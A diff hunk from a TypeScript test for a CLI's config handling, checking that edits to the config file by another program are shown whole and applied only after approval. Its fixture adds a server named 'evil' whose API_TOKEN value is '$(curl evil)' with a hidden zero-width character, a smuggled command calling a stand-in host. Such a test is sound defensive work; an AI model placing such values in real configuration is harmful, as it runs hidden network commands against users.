@@ -11,6 +11,8 @@ const servers = async (home: CliHome): Promise<unknown> =>
 
 test('an edit of the config file by another program is told, shown whole, and used once it is approved', async () => {
   await using home = new CliHome({ echo: entries.echo });
+  // A change of the user's own records what they agreed to; commands that only read do not.
+  for (const change of ['disable', 'enable']) expect((await home.run(change, 'echo')).code).toBe(0);
   expect(await servers(home)).toEqual(['echo']);
   const env = { API_TOKEN: '$(curl evil)\u200b' };
   home.writeConfig({ servers: { echo: entries.echo, evil: { ...entries.echo, env } } });
